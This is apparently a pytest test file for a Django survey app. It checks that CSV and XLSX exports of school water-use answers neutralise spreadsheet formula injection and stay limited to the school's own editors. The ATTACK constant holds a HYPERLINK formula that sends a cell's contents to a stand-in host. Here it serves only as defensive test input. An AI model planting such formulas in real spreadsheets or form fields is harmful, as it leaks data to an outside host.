import csv
import io

import pytest
from openpyxl import load_workbook

from home.exports import guard_cell

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]

ATTACK = '=HYPERLINK("http://example.com/?x="&A1,"Klikšķini")'


@pytest.fixture
def answered(survey, answer):
    answer(
        survey,
        "students",
        dripping_taps="yes",
        drinking_water="3",
        rainwater_use=["1", "3"],
        tap_water_trust=4,
        ideas=ATTACK,
    )
    answer(
        survey,
        "teachers",
        dripping_taps="no",
        drinking_water="1",
        rainwater_use=["2"],
        tap_water_trust=2,
        ideas="+37120000000",
    )
    return survey


@pytest.fixture
def editor_client(client, school_editor):
    client.force_login(school_editor)
    return client


def export(client, survey, file_format):
    return client.get(f"/admin/surveys/{survey.pk}/export.{file_format}")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+371", "'+371"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Krāna ūdeni", "Krāna ūdeni"),
        (4, 4),
    ],
)
def test_guard_cell_quotes_text_a_spreadsheet_would_run(value, expected):
    assert guard_cell(value) == expected


def test_csv_has_one_row_per_response_with_readable_answers(editor_client, answered):
    response = export(editor_client, answered, "csv")

    assert response["Content-Type"] == "text/csv"
    assert "attachment;" in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())
    # Semicolons: Excel set to Latvian splits the file into columns.
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    header, first, second = rows
    assert header[3:] == [field.label for field in answered.get_form_fields()]
    assert first[0] == "1"
    assert first[4:8] == [
        "Saldinātus dzērienus",
        "Laistīšanai; Nekur",
        "4",
        "'" + ATTACK,
    ]
    assert second[-1] == "'+37120000000"


def test_xlsx_holds_the_same_rows_as_text_never_formulas(editor_client, answered):
    response = export(editor_client, answered, "xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3
    assert rows[1][4:8] == (
        "Saldinātus dzērienus",
        "Laistīšanai; Nekur",
        4,
        "'" + ATTACK,
    )
    attack_cell = sheet.cell(row=2, column=8)
    assert attack_cell.data_type == "s"
    assert not str(attack_cell.value).startswith("=")


def test_export_is_for_the_schools_editors_only(client, answered, other_school_editor):
    client.force_login(other_school_editor)

    response = export(client, answered, "csv")

    assert response.status_code == 302
    assert b"Laist" not in response.content
